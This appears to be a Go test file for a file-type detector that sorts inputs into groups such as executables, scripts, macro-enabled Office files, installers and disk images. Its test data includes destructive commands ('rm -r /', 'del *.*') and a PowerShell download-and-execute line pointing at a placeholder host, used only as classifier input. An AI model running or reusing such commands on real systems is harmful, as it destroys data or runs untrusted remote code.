package filetype

import (
	"archive/zip"
	"bytes"
	"os"
	"slices"
	"strings"
	"testing"
)

// zipped returns a zip archive of members, each of which has its name as its content.
func zipped(t testing.TB, names ...string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		m, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := m.Write([]byte(n)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// portable returns the beginning of a PE file whose header is at an offset.
func portable(at int) string {
	b := make([]byte, at+24)
	copy(b, "MZ")
	b[60], b[61], b[62] = byte(at), byte(at>>8), byte(at>>16)
	copy(b[at:], "PE\x00\x00")
	return string(b)
}

func at(offset int, what string, size int) string {
	b := make([]byte, size)
	copy(b[offset:], what)
	return string(b)
}

const ole = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

func TestOf(t *testing.T) {
	locked := []byte(zipped(t, "a.txt"))
	locked[6] |= 1
	for _, c := range []struct {
		name, content string
		want          string
		groups        string
	}{
		{"a.jpg", portable(128), "pe", "executable"},
		{"far header", portable(100_000), "pe", "executable"},
		{"", "MZ" + strings.Repeat("\x00\x01", 100), "dos", "executable"},
		{"text.txt", "MZ is how the names of Mozambique's domains end.", "", ""},
		{"", "\x7fELF\x02\x01\x01", "elf", "executable"},
		{"", "\xcf\xfa\xed\xfe\x07\x00\x00\x01", "mach-o", "executable"},
		{"fat", "\xca\xfe\xba\xbe\x00\x00\x00\x02", "mach-o", "executable"},
		{"class", "\xca\xfe\xba\xbe\x00\x00\x00\x34", "java-class", "executable"},
		{"x", "#!/bin/sh\nrm -r /", "shebang", "script"},
		{"x", "\xef\xbb\xbf@ECHO OFF\r\ndel *.*", "batch", "script"},
		{"x.BAT", "del *.*", "batch", "script"},
		{"x.cmd. ", "del *.*", "batch", "script"},
		{"x.cmd:Zone.Identifier", "del *.*", "batch", "script"},
		{"x.ps1", "ls", "powershell", "script"},
		{"x.txt", "$a = New-Object Net.WebClient; Invoke-Expression $a.DownloadString('http://x')", "powershell", "script"},
		{"x", "\xff\xfe" + wide("Write-Host hi; Start-Process calc"), "powershell", "script"},
		{"x.vbs", "MsgBox 1", "vbscript", "script"},
		{"x.txt", "On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")", "vbscript", "script"},
		{"app.js", "function f(){ return document.title }", "", ""},
		{"old.js", "var x = new ActiveXObject(\"Microsoft.XMLHTTP\")", "", ""},
		{"invoice.js", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc')", "wsh", "script"},
		{"x.html", "<html><HTA:APPLICATION id=x>", "hta", "script"},
		{"x.html", "<html><script>new ActiveXObject('x')</script>", "", ""},
		{"essay.txt", "A param( is mentioned here, and nothing else.", "", ""},
		{"x", "[InternetShortcut]\r\nURL=file://x", "url", "shortcut"},
		{"x", "\xff\xfe" + wide("Windows Registry Editor Version 5.00"), "reg", "shortcut"},
		{"x", "\x4c\x00\x00\x00\x01\x14\x02\x00rest", "lnk", "shortcut"},
		{"x", "!<arch>\ndebian-binary   0", "deb", "archive installer"},
		{"x", "\xed\xab\xee\xdb\x03\x00", "rpm", "archive installer"},
		{"x", zipped(t, "META-INF/MANIFEST.MF", "A.class"), "jar", "archive installer"},
		{"x", zipped(t, "AndroidManifest.xml", "META-INF/MANIFEST.MF"), "apk", "archive installer"},
		{"x", zipped(t, "a.txt"), "zip", "archive"},
		{"x", string(locked), "zip", "archive encrypted"},
		{"x", zipped(t, "[Content_Types].xml", "word/document.xml"), "docx", "office"},
		{"x.docx", zipped(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "docx", "macro office"},
		{"x", zipped(t, "[Content_Types].xml", "xl/workbook.bin", "xl/macrosheets/sheet1.xml"), "xlsx", "macro office"},
		{"x", zipped(t, "[Content_Types].xml", "lib/net40/x.dll"), "ooxml", "archive"},
		{"x", ole + at(600, wide("WordDocument"), 1024), "ole2", "office"},
		{"x", ole + at(600, wide("_VBA_PROJECT"), 1024), "ole2", "macro office"},
		{"x", ole + at(70_000, wide("Macros")+"\x00\x00"+wide("VBA"), 80_000), "ole2", "macro office"},
		{"x", ole + at(600, wide("EncryptedPackage"), 1024), "ole2", "encrypted office"},
		{"x.doc", ole + at(600, "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46", 1024), "msi", "installer"},
		{"x", "Rar!\x1a\x07\x01\x00", "rar", "archive"},
		{"x", "7z\xbc\xaf\x27\x1c", "7z", "archive"},
		{"x", at(257, "ustar", 512), "tar", "archive"},
		{"x", "MSCF\x00\x00\x00\x00", "cab", "archive"},
		{"x", at(32769, "CD001", 40_000), "iso", "disk-image"},
		{"x", at(32769, "BEA01", 40_000), "udf", "disk-image"},
		{"x", at(4096-512, "koly", 4096), "dmg", "disk-image"},
		{"x", at(4096-512, "conectix", 4096), "vhd", "disk-image"},
		{"x", "vhdxfile", "vhdx", "disk-image"},
		{"x.exe", "just text", "", ""},
		{"x.png", "\x89PNG\r\n\x1a\n", "", ""},
		{"empty", "", "", ""},
	} {
		got := Of(c.name, strings.NewReader(c.content), int64(len(c.content)))
		if got.Name != c.want || strings.Join(got.Groups, " ") != c.groups {
			t.Errorf("%q, %.20q: %+v, want %q %q", c.name, c.content, got, c.want, c.groups)
		}
		if got.Name != "" && !got.Is(got.Name) || got.MIME == "" || got.Is("") {
			t.Errorf("%q: %+v", c.name, got)
		}
	}
}

func TestNames(t *testing.T) {
	names := Names()
	if len(names) < 40 || !slices.IsSorted(names) {
		t.Fatalf("%d names", len(names))
	}
	for _, m := range magics {
		if !slices.Contains(names, m.name) {
			t.Errorf("%s cannot be named in settings", m.name)
		}
	}
	for _, g := range groupsOf {
		for _, w := range g {
			if !slices.Contains(names, w) {
				t.Errorf("group %s", w)
			}
		}
	}
}

func TestProgramOfThisMachine(t *testing.T) {
	f, err := os.Open(os.Args[0]) // the test itself
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	if got := Of("", f, st.Size()); !got.Is(Executable) || got.MIME == "application/octet-stream" {
		t.Errorf("%+v", got)
	}
}

func FuzzOf(f *testing.F) {
	f.Add("a", []byte(portable(64)))
	f.Add("a.bat", []byte("@echo off"))
	f.Add("", []byte(zipped(f, "word/document.xml")))
	f.Add("", []byte(ole))
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		i := Of(name, bytes.NewReader(content), int64(len(content)))
		for _, g := range i.Groups {
			if !slices.Contains(Names(), g) {
				t.Errorf("%+v", i)
			}
		}
		// A size that is not true must not do harm: files can be cut.
		_ = Of(name, bytes.NewReader(content), int64(len(content))+1000)
	})
}
